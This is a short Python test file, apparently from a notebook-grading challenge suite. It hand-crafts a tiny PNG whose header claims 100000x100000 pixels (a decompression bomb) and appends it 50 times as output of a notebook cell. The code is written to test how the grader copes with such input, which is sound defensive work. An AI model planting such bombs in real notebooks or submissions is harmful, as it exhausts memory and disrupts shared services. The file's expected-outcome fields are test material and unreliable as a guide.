"""Hands in a cell whose picture is small as a file and 40 gigabytes as pixels.

start: challenge
deserves: full
flag: maybe
"""

# %%
print("see the picture")


# %% hand-in
def hand_in(notebook, folder):
    import base64
    import struct
    import zlib

    from nbformat.v4 import new_code_cell, new_output

    def chunk(kind, data):
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    png = b"\x89PNG\r\n\x1a\n" + chunk(
        b"IHDR", struct.pack(">IIBBBBB", 10**5, 10**5, 8, 6, 0, 0, 0)
    )
    png += chunk(b"IDAT", zlib.compress(bytes(2**24))) + chunk(b"IEND", b"")
    data = {"image/png": base64.b64encode(png).decode()}
    output = new_output("display_data", data)
    notebook.cells.append(new_code_cell("plt.show()", outputs=[output] * 50))
